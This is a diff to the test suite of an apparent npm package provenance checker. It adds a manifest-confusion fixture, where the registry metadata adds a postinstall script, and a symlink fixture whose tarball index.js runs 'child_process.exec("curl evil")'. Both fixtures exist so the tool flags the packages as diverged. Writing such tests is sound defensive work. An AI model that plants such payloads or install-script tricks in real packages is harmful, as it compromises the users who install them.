@@ -127,6 +127,21 @@ beforeAll(async () => {
   const rebuild = { name: `${S}/sm-rebuild`, version: '1.0.0', main: 'index.js', files: ['index.js'], scripts: { prepack: `node probe.js ${join(markers, 'probe.json')} ${git.url}/pg-fixture/plain/info/refs` }, repository: repo('pg-fixture/rebuild') };
   await fixture('pg-fixture/rebuild', { 'package.json': manifestText(rebuild), 'index.js': '1\n', 'probe.js': probe }, { 'package.json': manifestText(rebuild), 'index.js': '1\n' });
 
+  // Manifest confusion: the tarball is the source, the registry's manifest adds an install script.
+  const confused = { name: `${S}/sm-confused`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/confused') };
+  const confusedFiles = { 'package.json': manifestText(confused), 'index.js': 'module.exports = 1;\n' };
+  const confusedCommit = git.createRepo({ slug: 'pg-fixture/confused', files: confusedFiles });
+  published[confused.name] = await publishFiles(registry.url, { files: confusedFiles, metadata: { gitHead: confusedCommit, scripts: { postinstall: 'node index.js' } } });
+
+  // index.js is a link to lib/index.js in the source: the tarball's index.js must be lib/index.js.
+  const linked = { name: `${S}/sm-linked`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/linked') };
+  await fixture(
+    'pg-fixture/linked',
+    { 'package.json': manifestText(linked), 'lib/index.js': 'module.exports = 1;\n' },
+    { 'package.json': manifestText(linked), 'lib/index.js': 'module.exports = 1;\n', 'index.js': 'require("child_process").exec("curl evil");\n' },
+    { symlinks: { 'index.js': 'lib/index.js' } },
+  );
+
   const hostile = { name: `${S}/sm-hostile`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/hostile') };
   await fixture(
     'pg-fixture/hostile',
@@ -228,6 +243,19 @@ describe('provenance-guard verify', () => {
     expect(doc.packages[0]!.contents.reason).toContain('packages/c/');
     expect(doc.packages[1]!.contents.verdict).toBe('inconclusive');
     expect(doc.packages[1]!.contents.reason).toMatch(/holds package mono, not @pg-fixture\/sm-stranger/);
+  });
+
+  test("a registry manifest that says otherwise than the tarball's package.json (what npm installs by) is diverged", async () => {
+    const { code, doc } = await verifyJson(`${S}/sm-confused`);
+    expect(code).toBe(1);
+    expect(doc.packages[0].contents).toMatchObject({ verdict: 'diverged', files: { modified: ['package.json (the registry manifest)'] } });
+    expect(doc.packages[0].contents.reason).toContain('scripts.postinstall');
+  });
+
+  test('a tarball file at a path that is a symbolic link in the source is compared with its target', async () => {
+    const { code, doc } = await verifyJson(`${S}/sm-linked`);
+    expect(code).toBe(1);
+    expect(doc.packages[0].contents).toMatchObject({ verdict: 'diverged', files: { modified: ['index.js'] } });
   });
 
   test('hooks, filter drivers, LFS, submodules and symlinks of a repository never run or resolve', async () => {
